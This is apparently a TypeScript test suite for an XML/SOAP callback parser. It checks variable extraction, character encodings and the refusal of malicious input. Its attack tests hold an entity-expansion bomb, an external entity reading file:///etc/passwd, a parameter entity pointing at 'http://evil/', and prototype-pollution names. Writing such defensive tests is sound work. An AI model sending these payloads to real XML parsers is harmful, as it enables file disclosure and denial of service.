import { WireError } from '@ramal/runtime';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readVariables } from './read-variables.ts';
import { readXml } from './xml-variables.ts';

const XML = 'text/xml';
const read = (xml: string | Buffer, contentType = XML) =>
  Object.fromEntries(readXml(Buffer.isBuffer(xml) ? xml : Buffer.from(xml), contentType));

/** What a refused body is answered with. */
function refusal(xml: string | Buffer, contentType = XML): string {
  try {
    readXml(Buffer.isBuffer(xml) ? xml : Buffer.from(xml), contentType);
  } catch (error) {
    if (error instanceof WireError) return `${error.code}: ${error.message}`;
    throw error;
  }
  return 'accepted';
}

const toUtf16 = (text: string, { swap = false, bom = true } = {}) => {
  const bytes = Buffer.from(`${bom ? '\uFEFF' : ''}${text}`, 'utf16le');
  return swap ? bytes.swap16() : bytes;
};

describe('leaves become variables', () => {
  test('of plain XML and of SOAP with any prefix, headers included', () => {
    const plain = '<chamada><origem>4732100123</origem><destino>3501</destino></chamada>';
    expect(read(plain)).toEqual({ origem: '4732100123', destino: '3501' });
    const soap = (prefix: string) =>
      `<?xml version="1.0"?>
       <${prefix}:Envelope xmlns:${prefix}="http://schemas.xmlsoap.org/soap/envelope/" xmlns:a="urn:x">
         <${prefix}:Body><a:ended><a:origem>1</a:origem><id>é</id></a:ended></${prefix}:Body>
       </${prefix}:Envelope>`;
    for (const prefix of ['soap', 'SOAP-ENV', 's', '_', 'ns1']) {
      expect(read(soap(prefix))).toEqual({ origem: '1', id: 'é' });
    }
  });

  test('CDATA, references and line ends are read as text', () => {
    const xml =
      '<c><audio><![CDATA[http://pbx/a?x=1&y=<2>]]></audio><nome>A&amp;B &#233;&#xE9; &lt;i&gt;</nome><v>\r\n 1 \r\n</v></c>';
    expect(read(xml)).toEqual({ audio: 'http://pbx/a?x=1&y=<2>', nome: 'A&B éé <i>', v: '1' });
  });

  test('comments, instructions and attributes are no values', () => {
    expect(read('<c><!-- <x>1</x> --><?php echo 1 ?><a b="2">3</a></c>')).toEqual({ a: '3' });
  });

  test('threat 10 an element inside a value never becomes part of it', () => {
    expect(readXml(Buffer.from('<c><origem>12<b>34</b>56</origem></c>'), XML)).toEqual([['b', '34']]);
  });

  test('threat 10 names that mean something to objects are only names', () => {
    const xml = '<c><__proto__>1</__proto__><constructor>2</constructor></c>';
    expect(readXml(Buffer.from(xml), XML)).toEqual([
      ['__proto__', '1'],
      ['constructor', '2'],
    ]);
  });

  test("PHP's arrays are read as their keys and values", () => {
    const item = (key: string, value: string) => `<item><key>${key}</key><value>${value}</value></item>`;
    expect(read(`<c><param0>${item('origem', '1')}${item('destino', '2')}</param0></c>`)).toEqual({
      origem: '1',
      destino: '2',
    });
  });
});

describe('ISO-8859-1 and UTF-8 are both read right', () => {
  const xml = (encoding: string) =>
    `<?xml version="1.0" encoding="${encoding}"?><c><nome>São João</nome></c>`;
  const latin1 = (text: string) => Buffer.from(text, 'latin1');
  test.each([
    ['UTF-8, undeclared', Buffer.from('<c><nome>São João</nome></c>'), XML],
    ['UTF-8 in the prolog', Buffer.from(xml('UTF-8')), XML],
    ['UTF-8 in the content type', Buffer.from('<c><nome>São João</nome></c>'), 'text/xml; charset=utf-8'],
    ['UTF-8 with a byte order mark', Buffer.from(`\uFEFF${xml('utf-8')}`), XML],
    ['ISO-8859-1 in the prolog', latin1(xml('ISO-8859-1')), XML],
    [
      'ISO-8859-1 in the content type',
      latin1('<c><nome>São João</nome></c>'),
      'text/xml; charset="ISO-8859-1"',
    ],
    ['ISO-8859-1 that the content type calls UTF-8', latin1(xml('ISO-8859-1')), 'text/xml; charset=utf-8'],
    [
      'UTF-8 that the content type calls ISO-8859-1',
      Buffer.from(xml('UTF-8')),
      'text/xml; charset=iso-8859-1',
    ],
    ['windows-1252', latin1(xml('windows-1252')), XML],
    ['blank lines before the prolog', Buffer.from(`\n\n${xml('UTF-8')}`), XML],
  ])('%s', (_, body, contentType) => {
    expect(read(body, contentType)).toEqual({ nome: 'São João' });
  });

  test.each(['UTF-7', 'UTF-16', 'EBCDIC-CP-US', 'x-user-defined'])('%s is refused by name', (encoding) => {
    expect(refusal(xml(encoding))).toMatch(/^bad_request: .*UTF-8 and ISO-8859-1/);
    expect(refusal('<c/>', `text/xml; charset=${encoding}`)).toMatch(/^bad_request/);
  });
});

describe('pitfall 8 XML attacks are refused before anything is parsed', () => {
  const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">${Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY a${i} "${'&a;'.repeat(10)}">`,
  ).join('')}]><c><origem>&a8;</origem></c>`;

  test.each([
    ['an entity bomb', laughs],
    ['an external entity', '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><c><a>&x;</a></c>'],
    ['a parameter entity', '<!DOCTYPE c [<!ENTITY % x SYSTEM "http://evil/">%x;]><c/>'],
    ['a bare document type', '<!DOCTYPE c><c><a>1</a></c>'],
    ['a document type in lower case', '<!doctype c><c><a>1</a></c>'],
  ])('%s', (_, xml) => {
    expect(refusal(xml)).toBe('bad_request: XML with a document type or entities is not read');
  });

  test.each([
    ['little-endian', {}],
    ['big-endian', { swap: true }],
    ['little-endian without a mark', { bom: false }],
    ['big-endian without a mark', { swap: true, bom: false }],
  ])('a document type in UTF-16, %s', (_, how) => {
    expect(refusal(toUtf16(laughs, how))).toMatch(/^bad_request: XML is read in/);
    expect(refusal(toUtf16(laughs, how), 'text/xml; charset=utf-16')).toMatch(/^bad_request: XML is read in/);
  });

  test('an entity that nobody defined', () => {
    expect(refusal('<c><a>&nbsp;</a></c>')).toBe('bad_request: the body is not well-formed XML');
  });

  test('deep nesting, as far as the limit and beyond', () => {
    const deep = (levels: number) => `${'<a>'.repeat(levels)}1${'</a>'.repeat(levels)}`;
    expect(refusal(deep(32))).toBe('accepted');
    expect(refusal(deep(33))).toMatch(/too deep/);
    expect(refusal('<a>'.repeat(80_000))).toMatch(/too deep/);
  });

  test('more elements than any callback has', () => {
    expect(refusal(`<c>${'<a/>'.repeat(60_000)}</c>`)).toMatch(/too long/);
  });

  test.each([
    ['that are huge', `<c><a>&#${'9'.repeat(50_000)};</a></c>`],
    ['beyond Unicode', '<c><a>&#x110000;</a></c>'],
    ['of a surrogate', '<c><a>&#xD800;</a></c>'],
    ['of NUL', '<c><a>&#0;</a></c>'],
    ['of a control character', '<?xml version="1.1"?><c><a>&#1;</a></c>'],
    ['without end', '<c><a>&#65</a></c>'],
  ])('character references %s', (_, xml) => {
    expect(refusal(xml)).toBe('bad_request: the body is not well-formed XML');
  });

  test('a flood of character references', () => {
    expect(refusal(`<c><a>${'&#65;'.repeat(2_000)}</a></c>`)).toBe('accepted');
    expect(refusal(`<c><a>${'&#65;'.repeat(2_001)}</a></c>`)).toMatch(/too many character references/);
  });

  test.each([
    '',
    '<',
    '<a>',
    '<a></b>',
    '<a/><b/>',
    'text',
    '<a b=1/>',
    '<a:b/>',
    '<a>\u0001</a>',
    '<a><![CDATA[</a>',
  ])('what is not well-formed: %j', (xml) => {
    expect(refusal(xml)).toBe('bad_request: the body is not well-formed XML');
  });

  test('no bytes at all make it throw anything but a refusal, or give anything but text', () => {
    const piece = fc.constantFrom(
      '<a>',
      '</a>',
      '<![CDATA[',
      ']]>',
      '&#',
      ';',
      '&amp;',
      '<?xml',
      '?>',
      'x',
      '<!--',
      '"',
    );
    const body = fc.oneof(
      fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
      fc.array(piece, { maxLength: 40 }).map((pieces) => Buffer.from(pieces.join(''))),
    );
    fc.assert(
      fc.property(body, (bytes) => {
        try {
          for (const [name, value] of readXml(bytes, XML)) {
            expect([typeof name, typeof value]).toEqual(['string', 'string']);
          }
        } catch (error) {
          expect(error).toBeInstanceOf(WireError);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('a callback may carry XML wherever it may carry a form', () => {
  const xml = Buffer.from('<ended><origem>1</origem></ended>');
  test.each([XML, 'application/soap+xml; charset=utf-8', 'application/xml', 'text/plain', ''])(
    'called %j',
    (contentType) => {
      expect(readVariables('destino=2', contentType, xml)).toEqual([
        ['destino', '2'],
        ['origem', '1'],
      ]);
    },
  );

  test('what is called a form or JSON is read as that', () => {
    expect(readVariables('', 'application/json', Buffer.from('{"a":"<b>"}'))).toEqual([['a', '<b>']]);
    expect(readVariables('', 'application/x-www-form-urlencoded', Buffer.from('a=<b>'))).toEqual([
      ['a', '<b>'],
    ]);
  });
});
